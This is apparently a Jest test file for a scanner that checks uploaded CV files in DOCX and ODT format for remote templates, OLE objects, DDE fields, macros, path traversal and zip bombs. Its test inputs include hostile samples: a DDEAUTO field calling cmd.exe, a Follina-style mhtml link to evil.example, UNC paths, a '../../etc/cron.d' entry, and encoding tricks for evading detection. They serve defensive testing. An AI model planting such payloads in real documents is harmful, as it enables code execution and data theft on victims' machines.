/** @jest-environment node */
import {
  contentType,
  docx,
  docxWithBadEntry,
  docxWithField,
  docxWithRelation,
  docxWithSecondName,
  docxWithTypes,
  docxWithXml,
  EVIL_URL,
  inspect,
  MB,
  ODT_FILES,
  odt,
  poorText,
  SETTINGS_RELATIONS,
  TEMPLATE_RELATION,
  TYPES,
  utf16,
  zip,
} from "./testing/documents";

test.each<[string, string | Buffer]>([
  ["of plain text", docx()],
  ["with links", docxWithRelation("hyperlink", "https://a.example")],
  ["with a picture", docxWithRelation("image", "media/image1.png", "")],
  [
    "with an older link, and a picture in its text",
    docxWithXml('<v:shape href="https://a"/><image href="data:,a"/>'),
  ],
  ["of Word on the web", zip({ "[Content_Types].xml": TYPES, "word/document2.xml": "<w/>" })],
  ["with a link in a field", docxWithField(" HYPERLINK ", '"https://a.example" ')],
  [
    "whose text is about DDE and links",
    docxWithXml("<w:instrText> PAGE </w:instrText><w:t>I know DDE and LINK http://</w:t>"),
  ],
  [
    "with a field about DDE",
    docxWithXml("<w:instrText> REF Budde \\o DDE </w:instrText><w:t>I know DDE</w:t>"),
  ],
])("a DOCX %s has no mark", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("");
});

test.each<[string, string | Buffer]>([
  ["with a template", docx({ [SETTINGS_RELATIONS]: TEMPLATE_RELATION })],
  [
    "with a template, in character references",
    docxWithRelation("attachedTemplate", "&#104;ttp://evil.example", ""),
  ],
  ["with a picture at a UNC path", docxWithRelation("image", "\\\\evil.example\\a.png", "")],
  [
    "with a template, in a part in capitals",
    docx({ [SETTINGS_RELATIONS.toUpperCase()]: TEMPLATE_RELATION }),
  ],
  ["with a template, in UTF-16", docx({ [SETTINGS_RELATIONS]: utf16(TEMPLATE_RELATION) })],
  ["with a picture", docxWithRelation("image", EVIL_URL)],
  ["with a frame", docxWithRelation("frame", EVIL_URL)],
  ["with a subdocument", docxWithRelation("subDocument", EVIL_URL)],
  ["with a field that loads a picture", docxWithField(` INCLUDEPICTURE "${EVIL_URL}" \\d `)],
  [
    "with a field that loads a text",
    docxWithXml('<w:fldSimple w:instr="INCLUDETEXT \\\\evil\\a"/>'),
  ],
  [
    "with a field that loads a text, after a quotation mark",
    docxWithField('A "</w:instrText><w:fldChar/><w:instrText>INCLUDE a'),
  ],
  ["with a picture called hyperlink", docxWithRelation("image", "http://evil.example/hyperlink")],
  [
    "with a picture, before a sign that ends elements",
    docxWithRelation("image", `${EVIL_URL}" a="b>c`),
  ],
  [
    "with a picture at a UNC path, in mixed slashes",
    docxWithRelation("image", " /\\evil.example/a.png", ""),
  ],
])("a DOCX %s from elsewhere is marked", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("externalContent");
});

test.each<[string, string | Buffer]>([
  ["with an OLE object", docxWithRelation("oleObject", "embeddings/oleObject1.bin", "")],
  ["with the part of an OLE object", docx({ "word/embeddings/oleObject1.bin": "x" })],
  ["with a control", docx({ "word/activeX/activeX1.xml": "<a/>" })],
  ["with another document", docxWithRelation("aFChunk", "afchunk.dat", "")],
  ["with a web extension", docx({ "word/webextensions/taskpanes.xml": "<a/>" })],
  ["with an RTF file", docx({ "word/a.rtf": "{\\rtf1}" })],
  ["with DDE", docxWithField(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')],
  ["with DDE in parts", docxWithField("D", "DE", "AUTO cmd")],
  ["with DDE in character codes", docxWithField(" QUOTE 68 68 69 65 85 84 79 ")],
  ["with DDE in a footer", docx({ "word/footer1.xml": "<w:fldSimple w:instr='DDE cmd'/>" })],
  ["with an OLE object, in character references", docxWithRelation("oleO&#98;ject", "a.bin", "")],
  ["with DDE around a comment", docxWithField("DD<!-- -->EAUTO cmd")],
  ["with DDE in a CDATA section", docxWithField("<![CDATA[DDEAUTO cmd]]>")],
  [
    "with DDE in a part of another name",
    docx({ "word/a.dat": "<w:fldSimple w:instr='DDE cmd'/>" }),
  ],
])("a DOCX %s is marked as active", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("activeCv");
});

test.each<[string, string | Buffer]>([
  ["with an OLE object, as in Follina", docxWithRelation("oleObject", `mhtml:${EVIL_URL}!x-usc`)],
  ["with another document from elsewhere", docxWithRelation("aFChunk", EVIL_URL)],
])("a DOCX %s is marked as active and as loading from elsewhere", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("activeCv,externalContent");
});

test.each<[string, string | Buffer]>([
  [
    "with an entity of its own",
    docxWithXml('<!DOCTYPE a [<!ENTITY e "DDEAUTO">]><w:instrText>&e;</w:instrText>'),
  ],
  [
    "in UTF-32",
    docx({
      [SETTINGS_RELATIONS]: Buffer.from(
        `\ufeff\0${[...TEMPLATE_RELATION].join("\0")}\0`,
        "utf16le",
      ),
    }),
  ],
  ["in UTF-7", docx({ "word/document.xml": "<?xml version='1.0' encoding='UTF-7'?>+ADw-" })],
  ["with deeply nested elements", docxWithXml("<a>".repeat(2_000))],
  ["with a text of 9 MB", docx({ "word/document.xml": poorText(9 * MB) })],
])("a DOCX %s is marked as opaque", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("opaqueCv");
});

test.each<[string, string | Buffer]>([
  ["that is not an archive", "PK\u0003\u0004 and no archive"],
  ["without content types", zip({ "word/document.xml": "" })],
  ["without a text", zip({ "[Content_Types].xml": TYPES, "a.txt": "" })],
  ["with macros", docx({ "word/vbaProject.bin": "x" })],
  [
    "with the content type of macros, in UTF-16",
    docxWithTypes(utf16(contentType("ms-word.document.macroEnabled.main+xml"))),
  ],
  [
    "with the content type of macros, in character references",
    docxWithTypes(contentType("ms-word.document.macro&#x45;nabled.main+xml")),
  ],
  ["with macros in a part of another name", docxWithTypes(contentType("ms-office.vbaProject"))],
  ["with a part outside of its folder", docx({ "../../etc/cron.d/x": "x" })],
  ["with second names of its parts", docxWithSecondName("word/settings.xml")],
  ["that unpacks to a hundred times its size", docx({ "word/media/a.bin": Buffer.alloc(20 * MB) })],
  ["that unpacks to 51 MB", docx({ "word/media/a.bin": Buffer.alloc(51 * MB, "ab c") })],
  ["whose parts overlap", docxWithBadEntry(20, 60_000)],
  ["with an encrypted part", docxWithBadEntry(8, 1)],
])("a DOCX %s is refused", async (_what, content) => {
  expect(await inspect("cv.docx", content)).toBe("cvContent");
});

test.each<[string, string | Buffer]>([
  ["of plain text", odt()],
  ["with an empty list of scripts", odt("<office:scripts/><office:forms/>")],
  [
    "with links and pictures",
    odt('<o:scripts/><t:a x:href="https://a.example"/><d:image x:href="P/1.png"/>'),
  ],
])("an ODT %s has no mark", async (_what, content) => {
  expect(await inspect("cv.odt", content)).toBe("");
});

test.each<[string, string | Buffer]>([
  ["with a section", odt('<text:section-source xlink:href="../a.odt"/>')],
  ["with a picture in a header", odt(`<draw:image xlink:href="${EVIL_URL}"/>`, "styles.xml")],
])("an ODT %s from elsewhere is marked", async (_what, content) => {
  expect(await inspect("cv.odt", content)).toBe("externalContent");
});

test.each<[string, string | Buffer]>([
  [
    "with a script",
    odt('<office:scripts><office:script script:language="Basic"/></office:scripts>'),
  ],
  ["with an object", odt('<draw:object xlink:href="./Object 1"/>')],
  ["with DDE", odt("<office:dde-source/>")],
])("an ODT %s is marked as active", async (_what, content) => {
  expect(await inspect("cv.odt", content)).toBe("activeCv");
});

test.each<[string, string | Buffer]>([
  ["with an event listener", odt('<s:event-listener xlink:href="vnd.sun.star.script:a"/>')],
  ["with a key that starts a macro", odt('<a:item x:href="vnd.sun.star.script:a"/>', "keys.xml")],
])("an ODT %s is marked as active and as loading from elsewhere", async (_what, content) => {
  expect(await inspect("cv.odt", content)).toBe("activeCv,externalContent");
});

test.each<[string, string | Buffer]>([
  ["that is a DOCX", docx()],
  [
    "that is a spreadsheet",
    zip({ ...ODT_FILES, mimetype: ODT_FILES.mimetype.replace("text", "x") }),
  ],
  ["with macros", zip({ ...ODT_FILES, "Basic/Standard/Module1.xml": "x" })],
])("an ODT %s is refused", async (_what, content) => {
  expect(await inspect("cv.odt", content)).toBe("cvContent");
});
